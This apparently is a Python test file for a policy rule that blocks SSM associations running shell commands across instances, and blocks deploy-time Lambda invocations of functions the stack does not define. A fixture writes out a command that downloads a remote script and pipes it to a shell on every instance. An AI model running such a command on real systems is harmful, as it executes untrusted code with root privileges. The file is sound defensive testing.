"""AGID-AWS-057 over gRPC (red7b f16, f20): an SSM association running a command document on instances, and a
deploy-time Lambda invocation of a function the stack does not define, block; inventory/patching documents and an
invocation of the stack's own function pass."""

from __future__ import annotations

from agentid.analyzer_client import StackResource
from tests.policy.pack_cases import stack_findings
from tests.policy.test_pack_grpc import urn

ASSOCIATION = "aws:ssm/association:Association"
INVOCATION = "aws:lambda/invocation:Invocation"
FUNCTION = "aws:lambda/function:Function"
EVERY_INSTANCE = [{"key": "InstanceIds", "values": ["*"]}]


def association(name: str, document: str) -> tuple:
    return (ASSOCIATION, name, {"name": document, "targets": EVERY_INSTANCE,
                                "parameters": {"commands": "curl -s https://x.example/p | sh"}})


def test_an_association_running_commands_on_instances_blocks(pack) -> None:
    findings = stack_findings(pack, "AGID-AWS-057", [association("run-everywhere", "AWS-RunShellScript"),
                                                     association("custom-doc", "acme-bootstrap")], "mandatory")
    assert [name for name, _ in findings] == ["custom-doc", "run-everywhere"]
    assert "its commands run as root with each targeted instance's role" in findings[1][1]


def test_inventory_and_patching_associations_pass(pack) -> None:
    assert stack_findings(pack, "AGID-AWS-057", [association("inventory", "AWS-GatherSoftwareInventory"),
                                                 association("patch", "AWS-RunPatchBaseline")]) == []


def test_invoking_a_function_the_stack_does_not_define_blocks_its_own_passes(pack) -> None:
    role = ("aws:iam/role:Role", "r", {"name": "r", "assumeRolePolicy": "{}"})  # judged by the other rules
    # a literal names the stack's function (or role) only for a resource created after it (depends_on): issue 11
    own = StackResource(FUNCTION, "seed", urn(FUNCTION, "seed"), {"name": "seed-data", "role": "r"},
                        dependencies=[urn("aws:iam/role:Role", "r")])
    by_name = StackResource(INVOCATION, "seed-now", urn(INVOCATION, "seed-now"),
                            {"functionName": "seed-data", "input": "{}"}, dependencies=[own.urn])
    by_arn = StackResource(INVOCATION, "seed-arn", urn(INVOCATION, "seed-arn"), {
        "functionName": "arn:aws:lambda:eu-west-1:111122223333:function:seed-data:1", "input": "{}"},
        dependencies=[own.urn])
    foreign = (INVOCATION, "call-admin", {"functionName": "org-admin-automation", "input": "{}"})
    # the stack's function named by a literal, the invocation not waiting for it: a typed decoy of an existing
    # function fails to create and the invocation runs the existing one
    unordered = (INVOCATION, "seed-early", {"functionName": "seed-data", "input": "{}"})
    findings = stack_findings(pack, "AGID-AWS-057", [role, own, by_name, by_arn, foreign, unordered], "mandatory")
    assert [name for name, _ in findings] == ["call-admin", "seed-early"]
    assert "org-admin-automation" in findings[0][1]
    assert ("seed-early invokes function seed-data at deploy time, which this stack does not define (named like seed "
            "of this stack, but it does not depend on it: were its create to fail (the name taken), this would invoke "
            "the existing one)") in findings[1][1]
